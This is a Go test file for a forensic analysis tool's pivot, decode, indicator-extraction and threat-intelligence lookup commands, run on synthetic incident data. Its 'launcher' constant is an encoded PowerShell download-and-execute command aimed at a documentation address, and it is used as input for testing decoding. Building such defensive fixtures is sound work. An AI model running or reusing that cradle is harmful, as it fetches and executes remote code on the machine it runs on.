package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/maxmind/mmdbwriter"
	"github.com/maxmind/mmdbwriter/mmdbtype"
	"github.com/parquet-go/parquet-go"

	"forensic/analyzers/pivot"
	"forensic/datasets"
	"forensic/datasets/catalog"
	"forensic/datasets/reference"
	"forensic/store"
)

// piped runs the program with a text on stdin.
func piped(t *testing.T, code int, stdin string, args ...string) (stdout, stderr string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "stdin")
	if err := os.WriteFile(path, []byte(stdin), 0o600); err != nil {
		t.Fatal(err)
	}
	file, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	old := os.Stdin
	os.Stdin = file
	defer func() { os.Stdin = old; file.Close() }()
	return wants(t, code, args...)
}

// rowCount is the number of rows of a CSV table.
func rowCount(t *testing.T, text string) int {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, text)
	}
	return len(rows) - 1
}

// sampleCase ingests the embedded sample, and alerts and tasks beside it, which the
// sample has none of.
func sampleCase(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	caseDir := filepath.Join(dir, "case")
	if err := datasets.WriteSample(filepath.Join(dir, "sample")); err != nil {
		t.Fatal(err)
	}
	wants(t, exitOK, "ingest", filepath.Join(dir, "sample"), "--case", caseDir)
	files := map[string]string{
		"SecurityAlert.csv": "TenantId,TimeGenerated,Type,AlertName,AlertSeverity,SystemAlertId,CompromisedEntity,Entities\n" +
			`t,2024-05-14T14:00:00Z,SecurityAlert,Odd traffic,High,a-1,WS-ALDER,"[{""Type"":""ip"",""Address"":""203.0.113.77""},{""Type"":""host"",""HostName"":""WS-ALDER""},` +
			`{""Type"":""account"",""Name"":""hlindqvist""},{""Type"":""file"",""Name"":""cache.7z""},{""Type"":""process"",""CommandLine"":""powershell.exe""}]"` + "\n",
		"tasks.json": `{"EventID":4698,"Channel":"Security","Hostname":"WS-ALDER.corp.meridian.example","EventTime":"2024-05-14 14:00:00","TimeCreated":"2024-05-14T14:00:00Z","SubjectUserName":"hlindqvist","SubjectDomainName":"MERIDIAN","TaskName":"\\Vendor\\Update","TaskContent":"<x>curl.exe</x>"}` + "\n",
	}
	for name, text := range files {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		wants(t, exitOK, "ingest", path, "--case", caseDir)
	}
	return caseDir
}

// known and absent are values that the sample has and has not, by type.
var (
	known = map[pivot.Type][]string{
		pivot.IP: {"203.0.113.77", "10.20.4.17"}, pivot.Host: {"WS-ALDER", "fs-birch.corp.meridian.example"}, pivot.Account: {`MERIDIAN\hlindqvist`, "SYSTEM", "eoduya"},
		pivot.Process: {"powershell", `C:\Windows\System32\cmd.exe`, "services.exe"}, pivot.PID: {"1936", "720", "4"}, pivot.ProcessGUID: {"526425b0-479d-6643-1c00-000000000900"},
		pivot.LogonSession: {"1339268", "0x3e7"}, pivot.File: {`C:\ProgramData\Intel\cache.7z`, "powershell.exe", "kernel32.dll", "curl.exe"},
		pivot.Hash: {"92c26a7d83d13995ac646a0605cf9ff2778f88dc14548dad3e23f9d8dd7f3ea2"}, pivot.DNS: {"tidyops.corp.meridian.example", "files.drop-quay.example"},
		pivot.URL: {"hxxps://files.drop-quay[.]example/u/9f3c/cache.7z"}, pivot.Registry: {`HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\SystemCertificates`},
		pivot.Service: {"Dcjpamir"}, pivot.Task: {"update"}, pivot.Mailbox: {"eoduya@meridian.example"}, pivot.Resource: {"inbox"}, pivot.Text: {"powershell", "http", "see http://a.example/x"},
	}
	absent = map[pivot.Type]string{
		pivot.IP: "192.0.2.254", pivot.Host: "no-such-host", pivot.Account: "no.such.account", pivot.Process: "no-such.exe", pivot.PID: "999999999",
		pivot.ProcessGUID: "{00000000-0000-0000-0000-000000000001}", pivot.LogonSession: "123456789012", pivot.File: `C:\no\such.file`,
		pivot.Hash: strings.Repeat("0a", 32), pivot.DNS: "no.such.name.example", pivot.URL: "http://no.such.name.example/x", pivot.Registry: `HKLM\No\Such`,
		pivot.Service: "no such service", pivot.Task: "no such task", pivot.Mailbox: "nobody@no.example", pivot.Resource: "no such resource", pivot.Text: "no such text anywhere",
	}
)

// nowhere are verbs that the sample has nothing for.
var nowhere = map[string]bool{
	"pid.accesses": true, "process_guid.accesses": true, "process_guid.connections": true, "process_guid.dns": true, "process_guid.files": true, "process_guid.registry": true,
	"pid.connections": true, "pid.dns": true, "pid.registry": true, "account.dns": true, "account.registry": true, "account.services": true, "account.scripts": true,
	"url.related": true, "url.connections": true, "url.scripts": true, "url.alerts": true, "mailbox.related": true, "mailbox.alerts": true, "resource.alerts": true,
	"hash.alerts": true, "hash.files": true, "hash.services": true, "hash.scripts": true, "dns.alerts": true, "dns.scripts": true, "registry.alerts": true,
	"service.alerts": true, "task.alerts": true, "file.services": true, "file.registry": true, "ip.processes": true, "ip.scripts": true, "ip.dns": true, "text.scripts": true,
}

func TestPivotOnTheSample(t *testing.T) {
	dir := sampleCase(t)
	list, err := catalog.Load()
	if err != nil {
		t.Fatal(err)
	}
	t.Run("every verb", func(t *testing.T) { everyVerb(t, dir, list) })
	t.Run("overview", func(t *testing.T) { pivotOverview(t, dir) })
	t.Run("chain", func(t *testing.T) { pivotChain(t, dir) })
	t.Run("recipe", func(t *testing.T) { pivotRecipe(t, dir) })
	t.Run("formats", func(t *testing.T) { pivotFormats(t, dir) })
	t.Run("options", func(t *testing.T) { pivotOptionsOf(t, dir) })
}

// everyVerb asks each verb of values that are there, and of one that is not. The
// program's answer is the same with one worker and with two.
func everyVerb(t *testing.T, dir string, list *catalog.Catalog) {
	env, closeEnv := testEnv(t, dir, list)
	defer closeEnv()
	for i := range pivot.Nouns {
		n := &pivot.Nouns[i]
		for _, v := range pivot.Of(list, n.Type) {
			name := string(n.Type) + "." + v.Name
			if len(v.Missing(nil)) > 0 {
				continue
			}
			missing, err := n.Parse(absent[n.Type])
			if err != nil {
				t.Fatal(err)
			}
			rows, nothing := ask(t, env, n, v, append(slices.Clone(known[n.Type]), absent[n.Type]))
			strange := func(row []any) bool { return row[0] == missing.Text }
			switch {
			case v.Case && slices.ContainsFunc(rows, strange):
				t.Errorf("%s: rows of %s", name, absent[n.Type])
			case v.Query() != nil, nothing, nowhere[name], name == "text.decode", name == "url.decode":
			case !slices.ContainsFunc(rows, func(row []any) bool { return !strange(row) }):
				t.Errorf("%s: nothing of %q", name, known[n.Type])
			}
		}
	}
}

// testEnv opens the case for verbs, with reference data made up.
func testEnv(t *testing.T, dir string, list *catalog.Catalog) (*pivot.Env, func()) {
	t.Helper()
	c, err := store.Open(dir, version)
	if err != nil {
		t.Fatal(err)
	}
	known := &reference.Set{Addresses: fakeAddresses{}, Assets: fakeAssets{}, Sources: []reference.Source{{Kind: "geoip"}}}
	a := &app{memory: 2 << 30, workers: 2}
	r, err := a.reader(c, store.Narrow{}, known)
	if err != nil {
		t.Fatal(err)
	}
	return &pivot.Env{Data: readOnly{r}, Reference: known, Queries: list}, func() { r.Close() }
}

type fakeAddresses struct{}

func (fakeAddresses) Locate(netip.Addr) (reference.Place, bool) {
	return reference.Place{CountryCode: "XX", City: "Nowhere", Source: "fake"}, true
}

func (fakeAddresses) Network(netip.Addr) (reference.Network, bool) {
	return reference.Network{ASN: 64500}, true
}

func (fakeAddresses) Registration(netip.Addr) (reference.Registration, bool) {
	return reference.Registration{ASN: 64500}, true
}

type fakeAssets struct{}

func (fakeAssets) Asset(name string) (reference.Asset, bool) {
	return reference.Asset{Name: name}, !strings.Contains(name, "no")
}

// ask asks a verb; absent tells that it had nothing to look at.
func ask(t *testing.T, env *pivot.Env, n *pivot.Noun, v *pivot.Verb, values []string) (rows [][]any, absent bool) {
	t.Helper()
	r, err := pivot.Run(context.Background(), env, pivot.Values(n, values), pivot.Step{Noun: n, Verb: v})
	if err != nil {
		t.Fatalf("%s.%s: %v", n.Type, v.Name, err)
	}
	defer r.Close()
	if rows, err = pivot.Collect(r); err != nil {
		t.Fatalf("%s.%s: %v", n.Type, v.Name, err)
	}
	if r.Stats.Bad > 0 {
		t.Fatalf("%s.%s: %s", n.Type, v.Name, r.Stats.BadSays)
	}
	return rows, r.Stats.Absent != nil
}

func pivotOverview(t *testing.T, dir string) {
	out, _ := wants(t, exitOK, "pivot", "ip", "203.0.113[.]77", "--case", dir, "--format", "table")
	for _, want := range []string{"ip 203.0.113.77\n", "\nip.connections: 38", "ip.alerts: 1 row", "Not applicable: ip.geo, ip.asn (there is no database of addresses)", "Nothing found: "} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in\n%s", want, out)
		}
	}
	out, _ = wants(t, exitOK, "pivot", "account", "hlindqvist", "--case", dir, "--json")
	var overview struct {
		Values []string
		Verbs  []struct {
			Verb, Status string
			Rows         int
			First        []map[string]any
		}
	}
	if err := json.Unmarshal([]byte(out), &overview); err != nil || len(overview.Verbs) < 20 || overview.Values[0] != "hlindqvist" {
		t.Errorf("%v %s", err, out)
	}
	again, _ := wants(t, exitOK, "pivot", "account", "hlindqvist", "--case", dir, "--json", "-j", "1")
	if d := cmp.Diff(out, again); d != "" {
		t.Errorf("the overview depends on the workers: %s", d)
	}
	out, _ = wants(t, exitOK, "pivot", "ip", "203.0.113.77")
	if !strings.Contains(out, "ip.events,not_applicable,0,it asks the events of a case: --case DIR") || !strings.Contains(out, "ip.type,answered,1,") {
		t.Error(out)
	}
	wants(t, exitUsage, "pivot", "ip", "nonsense")
	wants(t, exitPartial, "pivot", "ip", "nonsense", "192.0.2.1")
	wants(t, exitUsage, "pivot", "bird", "x")
	wants(t, exitUsage, "pivot", "ip", "192.0.2.1", "--join", "left")
}

// pivotChain pipes one pivot into the next, as a shell does.
func pivotChain(t *testing.T, dir string) {
	first, _ := wants(t, exitOK, "query", "--case", dir, "--format", "csv",
		"SELECT destination_ip, count(*) AS events FROM events WHERE destination_ip IS NOT NULL GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 5")
	second, _ := piped(t, exitOK, first, "pivot", "ip.type", "--join", "left")
	third, _ := piped(t, exitOK, second, "pivot", "ip.first_seen", "--case", dir, "--join", "inner", "--keep", "ip,kind,events_src,events_res", "--limit", "2")
	if want := "\n203.0.113.77,documentation,384,"; !strings.HasPrefix(third, "ip,kind,events_src,events_res\n") || !strings.Contains(third, want) || rowCount(t, third) != 2 {
		t.Errorf("%s", third)
	}
	again, _ := piped(t, exitOK, second, "pivot", "ip.first_seen", "--case", dir, "--join", "inner", "--keep", "ip,kind,events_src,events_res", "--limit", "2", "-j", "1")
	if third != again {
		t.Errorf("%s\n%s", third, again)
	}
	if left, warned := piped(t, exitOK, first, "pivot", "ip.geo", "--join", "left"); rowCount(t, left) != 5 || !strings.Contains(warned, "not applicable: there is no database of addresses") || !strings.Contains(warned, "cache add geoip") {
		t.Errorf("%s %s", left, warned)
	}
	if out, said := piped(t, exitPartial, "192.0.2.1\nnonsense\n\n", "pivot", "ip.type", "--join", "left"); rowCount(t, out) != 2 || !strings.Contains(said, `"nonsense" is no address`) {
		t.Errorf("%s %s", out, said)
	}
	if _, said := piped(t, exitUsage, "source_ip,destination_ip\n192.0.2.1,192.0.2.2\n", "pivot", "ip.type"); !strings.Contains(said, "--column") || !strings.Contains(said, "source_ip, destination_ip") {
		t.Error(said)
	}
	if out, _ := piped(t, exitOK, "a,b\n192.0.2.1,192.0.2.2\n", "pivot", "ip.type", "--column", "b", "-"); !strings.Contains(out, "\n192.0.2.2,") {
		t.Error(out)
	}
	if _, said := wants(t, exitOK, "pivot", "host.events", "no-such-host", "--case", dir); !strings.Contains(said, "nothing found") {
		t.Error(said)
	}
	if _, said := wants(t, exitUsage, "pivot", "host.events", "ws-alder"); !strings.Contains(said, "--case DIR") {
		t.Error(said)
	}
}

func pivotRecipe(t *testing.T, dir string) {
	folder := t.TempDir()
	t.Chdir(folder)
	recipe := `pipelines:
  outside:
    input: {query: "SELECT destination_ip, count(*) AS events FROM events WHERE destination_ip IS NOT NULL GROUP BY 1 ORDER BY 2 DESC, 1"}
    steps:
      - {name: kinds, pivot: ip.type, column: destination_ip, join: left, where: [external = true], output: kinds.csv, display: true}
      - {pivot: ip.first_seen, join: inner, keep: [ip, kind, events_res], limit: 2, output: last.jsonl}
  given:
    steps: [{pivot: ip.type}]
`
	if err := os.WriteFile("r.yaml", []byte(recipe), 0o600); err != nil {
		t.Fatal(err)
	}
	out, said := wants(t, exitOK, "pivot", "run", "r.yaml", "--pipeline", "outside", "--case", dir)
	if !strings.HasPrefix(out, "ip,kind,events_res\n203.0.113.77,documentation,") || rowCount(t, out) != 2 || !strings.Contains(said, "kinds: ") {
		t.Errorf("%s %s", out, said)
	}
	kinds, err := os.ReadFile("kinds.csv")
	if err != nil || rowCount(t, string(kinds)) < 10 {
		t.Errorf("a later limit cuts what is written: %v %s", err, kinds)
	}
	if last, err := os.ReadFile("last.jsonl"); err != nil || strings.Count(string(last), "\n") != 2 {
		t.Errorf("%v %s", err, last)
	}
	if _, said := wants(t, exitUsage, "pivot", "run", "r.yaml", "--pipeline", "outside", "--case", dir); !strings.Contains(said, "exists already") {
		t.Error(said)
	}
	wants(t, exitUsage, "pivot", "run", "r.yaml")
	wants(t, exitUsage, "pivot", "run", "r.yaml", "--pipeline", "outside")
	wants(t, exitUsage, "pivot", "run", "nowhere.yaml")
	if out, _ := wants(t, exitOK, "pivot", "run", "r.yaml", "--pipeline", "given", "192.0.2.1"); rowCount(t, out) != 1 {
		t.Error(out)
	}
	if out, _ := piped(t, exitOK, "x,ip\n1,192.0.2.1\n", "pivot", "run", "r.yaml", "--pipeline", "given"); rowCount(t, out) != 1 {
		t.Error(out)
	}
	printed, _ := wants(t, exitOK, "pivot", "run", "r.yaml", "--pipeline", "outside", "--print")
	if !strings.Contains(printed, "forensic pivot ip.type --column destination_ip --join left --where 'external = true' |\n  tee kinds.csv |\n") {
		t.Error(printed)
	}
}

func pivotFormats(t *testing.T, dir string) {
	folder := t.TempDir()
	path := filepath.Join(folder, "out.parquet")
	wants(t, exitOK, "pivot", "host.processes", "ws-alder", "--case", dir, "--format", "parquet", "-o", path, "--limit", "20")
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	f, err := parquet.OpenFile(bytes.NewReader(data), int64(len(data)))
	if err != nil || f.NumRows() != 20 {
		t.Fatalf("%v", err)
	}
	out, _ := wants(t, exitOK, "pivot", "host.parts", "--input", path, "--join", "left", "--column", "host_name")
	if rowCount(t, out) != 20 || !strings.Contains(out, "2024-05-14T") {
		t.Errorf("%s", out)
	}
	damaged := bytes.Clone(data)
	for i := len(damaged) / 3; i < len(damaged)/3+400; i++ {
		damaged[i] ^= 0x5a
	}
	for i, bad := range [][]byte{damaged, data[:len(data)/2], []byte("PAR1PAR1"), append([]byte("PAR1"), bytes.Repeat([]byte{0xff}, 64)...)} {
		name := filepath.Join(folder, string(rune('a'+i)))
		if err := os.WriteFile(name, bad, 0o600); err != nil {
			t.Fatal(err)
		}
		if code, _, said := forensic(t, "pivot", "host.parts", "--input", name); code == exitOK && i > 0 {
			t.Errorf("damaged file %d: %d %s", i, code, said)
		}
	}
	lines, _ := wants(t, exitOK, "pivot", "ip.type", "192.0.2.1", "--format", "jsonl")
	if lines != `{"ip":"192.0.2.1","kind":"documentation","external":true,"internal":false,"version":4,"ip_type":"Documentation"}`+"\n" {
		t.Error(lines)
	}
	if table, _ := wants(t, exitOK, "pivot", "text.iocs", "\x1b[31m http://a.example/\u202e", "--format", "table"); strings.ContainsAny(table, "\x1b\u202e") {
		t.Errorf("%q", table)
	}
	wants(t, exitUsage, "pivot", "ip.type", "192.0.2.1", "--format", "parquet")
	wants(t, exitUsage, "pivot", "ip.type", "192.0.2.1", "-o", path)
	wants(t, exitUsage, "pivot", "ip.type", "--input", folder)
	wants(t, exitUsage, "pivot", "ip.type", "--input", filepath.Join(folder, "nowhere"))
}

func pivotOptionsOf(t *testing.T, dir string) {
	all, _ := wants(t, exitOK, "pivot", "host.processes", "ws-alder", "--case", dir)
	last, _ := wants(t, exitOK, "pivot", "host.processes", "ws-alder", "--case", dir, "--to", "2024-05-14T14:00:00Z", "--last", "1h")
	added, _ := wants(t, exitOK, "pivot", "host.processes", "ws-alder", "--case", dir, "--add", "AND process_name = 'curl.exe'")
	if a, l, c := rowCount(t, all), rowCount(t, last), rowCount(t, added); l == 0 || l >= a || c >= a {
		t.Errorf("%d rows, %d in an hour, %d of curl", a, l, c)
	}
	for _, args := range []string{
		"host.processes ws-alder --case " + dir + " --add ;", "host.processes ws-alder --last 1h", "host.processes ws-alder --case " + dir + " --join cross",
		"host.timeline ws-alder --case " + dir + " --param by=year", "host.timeline ws-alder --case " + dir + " --param x=1", "host.fly x", "ip.type 192.0.2.1 --where x",
		"ip.type 192.0.2.1 --keep nowhere", "ip.type 192.0.2.1 --limit -1", "ip.type 192.0.2.1 --column x", "ip.type --input-format xml --input " + filepath.Join(dir, "case.json"),
		"pid.process.by_pid 4 --case " + dir, "list bird",
	} {
		wants(t, exitUsage, append([]string{"pivot"}, strings.Fields(args)...)...)
	}
	if out, _ := wants(t, exitOK, "pivot", "pid.process.by_pid", "0x790", "--case", dir, "--param", "host=dc-cedar"); rowCount(t, out) == 0 {
		t.Error(out)
	}
	out, _ := wants(t, exitOK, "pivot", "process.tree", "--help")
	for _, want := range []string{"Ancestors and descendants", "--case DIR", "of class process_start", "Columns: process, relation, level", "levels (int, default 8)", "forensic pivot process.tree powershell.exe --case DIR"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in %s", want, out)
		}
	}
	if out, _ := wants(t, exitOK, "pivot", "--help"); !strings.Contains(out, "Exit codes:") {
		t.Error(out)
	}
	if out, _ := wants(t, exitOK, "pivot", "list", "hash"); !strings.Contains(out, "hash.all.events_with_hash") || strings.Contains(out, "ip.geo") {
		t.Error(out)
	}
	var nouns []nounInfo
	out, _ = wants(t, exitOK, "pivot", "list", "--json")
	if err := json.Unmarshal([]byte(out), &nouns); err != nil || len(nouns) != len(pivot.Nouns) || len(nouns[0].Verbs) < 10 {
		t.Errorf("%v", err)
	}
}

const launcher = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAIgApAA=="

func TestDecodeAndIOCs(t *testing.T) {
	out, _ := wants(t, exitOK, "decode", launcher)
	if want := `base64 > utf-16le`; rowCount(t, out) == 0 || !strings.Contains(out, want) || !strings.HasPrefix(out, "string,layer,") {
		t.Errorf("%s", out)
	}
	if same, _ := piped(t, exitOK, launcher, "decode"); same != out {
		t.Errorf("stdin: %s", same)
	}
	if none, said := wants(t, exitOK, "decode", "plain"); rowCount(t, none) != 0 || !strings.Contains(said, "nothing found") {
		t.Errorf("%s %s", none, said)
	}
	found, _ := piped(t, exitOK, out, "pivot", "text.iocs", "--keep", "type,value")
	if found != "type,value\nurl,http://198.51.100.7/a.ps1\nipv4,198.51.100.7\n" {
		t.Errorf("%s", found)
	}
	if placed, _ := piped(t, exitOK, found, "pivot", "ip.type", "--join", "inner", "--keep", "value,kind"); placed != "value,kind\n198.51.100.7,documentation\n" {
		t.Errorf("%s", placed)
	}
	if found, _ := wants(t, exitOK, "iocs", "--text", launcher, "--decode"); !strings.Contains(found, "ipv4,198.51.100.7,url,") {
		t.Error(found)
	}
	// Longer than a block: offsets count from the beginning, and each comes once.
	long := "a 192.0.2.1\n" + strings.Repeat("x y z\n", 400_000) + "192.0.2.1 b 192.0.2.2\n"
	path := filepath.Join(t.TempDir(), "long.txt")
	if err := os.WriteFile(path, []byte(long), 0o600); err != nil {
		t.Fatal(err)
	}
	found, _ = wants(t, exitOK, "iocs", path)
	want := "type,value,part_of,offset,chain\nipv4,192.0.2.1,,2,\nipv4,192.0.2.2,," + "2400024" + ",\n"
	if d := cmp.Diff(want, found); d != "" {
		t.Error(d)
	}
	wants(t, exitUsage, "iocs", filepath.Join(t.TempDir(), "nowhere"))
	wants(t, exitUsage, "decode", "x", "--file", path)
	wants(t, exitUsage, "iocs", "x", "--text", "y")
}

// places writes a database in which one network of the examples has a place.
func places(t *testing.T) string {
	t.Helper()
	tree, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: "Test-City", BuildEpoch: 1715700000, IncludeReservedNetworks: true})
	if err != nil {
		t.Fatal(err)
	}
	_, block, err := net.ParseCIDR("198.51.100.0/24")
	if err != nil {
		t.Fatal(err)
	}
	if err := tree.Insert(block, mmdbtype.Map{
		"country":  mmdbtype.Map{"iso_code": mmdbtype.String("IS")},
		"city":     mmdbtype.Map{"names": mmdbtype.Map{"en": mmdbtype.String("Reykjavik")}},
		"location": mmdbtype.Map{"latitude": mmdbtype.Float64(64.1), "longitude": mmdbtype.Float64(-21.9)},
	}); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "places.mmdb")
	out, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tree.WriteTo(out); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestFromACommandToAPlace is the worked example of docs/pivots.md: an obfuscated
// command is decoded, its indicators are extracted and looked up, and located.
func TestFromACommandToAPlace(t *testing.T) {
	t.Setenv("FORENSIC_CACHE", filepath.Join(t.TempDir(), "reference"))
	wants(t, exitOK, "cache", "add", "geoip", places(t))
	wants(t, exitOK, "cache", "add", "ti", put(t, "feed.csv", "ioc,type,severity,malware\n198.51.100.7,ip,high,Loader\n"), "--provider", "Sector CERT")

	layers, _ := wants(t, exitOK, "decode", launcher, "--innermost")
	found, _ := piped(t, exitOK, layers, "pivot", "text.iocs", "--keep", "type,value")
	judged, _ := piped(t, exitOK, found, "pivot", "text.ti", "--column", "value", "--join", "left", "--keep", "type,value,Provider,Severity")
	if want := "type,value,Provider,Severity\nurl,http://198.51.100.7/a.ps1,,\nipv4,198.51.100.7,Sector CERT,high\n"; judged != want {
		t.Errorf("judged: %s", judged)
	}
	placed, _ := piped(t, exitOK, judged, "pivot", "ip.geo", "--column", "value", "--join", "inner", "--keep", "value,Severity,CountryCode,City,Database")
	if want := "value,Severity,CountryCode,City,Database\n198.51.100.7,high,IS,Reykjavik,places\n"; placed != want {
		t.Errorf("placed: %s", placed)
	}
}

// TestPivotTI looks values of every type up that threat intelligence has.
func TestPivotTI(t *testing.T) {
	if _, said := wants(t, exitOK, "pivot", "ip.ti", "203.0.113.9"); !strings.Contains(said, "there is no threat intelligence") || !strings.Contains(said, "forensic cache add ti") {
		t.Error(said)
	}
	t.Setenv("FORENSIC_CACHE", filepath.Join(t.TempDir(), "reference"))
	hash := strings.Repeat("0123456789abcdef", 4)
	list := "203.0.113.0/24\n*.bad.example\nhttp://worse.example/a/*\n" + hash + "\nnobody@bad.example\n"
	wants(t, exitOK, "cache", "add", "ti", put(t, "list.txt", list), "--severity", "high", "--provider", "ours")
	wants(t, exitOK, "cache", "add", "ti", put(t, "names.csv", "type,value\nfile_name,evil.exe\npath,C:\\Temp\\evil.exe\nregistry_key,HKLM\\Software\\Evil\n"), "--provider", "others")
	for _, test := range []struct{ noun, value, want string }{
		{"ip", "203[.]0[.]113[.]9", "203.0.113.9,true,high,0"},
		{"ip", "192.0.2.9", "192.0.2.9,false,information,4"},
		{"ip", "10.0.0.1", "10.0.0.1,false,information,2"},
		{"dns", "a.bad.example", "a.bad.example,true,high,0"},
		{"dns", "notbad.example", "notbad.example,false,information,4"},
		{"url", "hxxp://worse.example/a/b?c", "http://worse.example/a/b?c,true,high,0"},
		{"url", "http://worse.example/b", "http://worse.example/b,false,information,4"},
		{"hash", strings.ToUpper(hash), hash + ",true,high,0"},
		{"mailbox", "Nobody@bad.example", "nobody@bad.example,true,high,0"},
		{"file", "EVIL.exe", "evil.exe,true,"},
		{"file", `c:\temp\EVIL.exe`, `c:\temp\evil.exe,true,`},
		{"registry", `HKEY_LOCAL_MACHINE\Software\Evil`, `hklm\software\evil,true,`},
		{"text", "a.bad.example", "a.bad.example,true,high,0"},
	} {
		out, _ := wants(t, exitOK, "pivot", test.noun+".ti", test.value, "--keep", "SafeIoc,Result,Severity,Status")
		if !strings.Contains(out, "\n"+test.want) {
			t.Errorf("%s %s: %s", test.noun, test.value, out)
		}
	}
	if out, _ := wants(t, exitOK, "pivot", "ip.ti", "10.0.0.1", "--param", "refused=false"); rowCount(t, out) != 0 {
		t.Errorf("a private address: %s", out)
	}
}
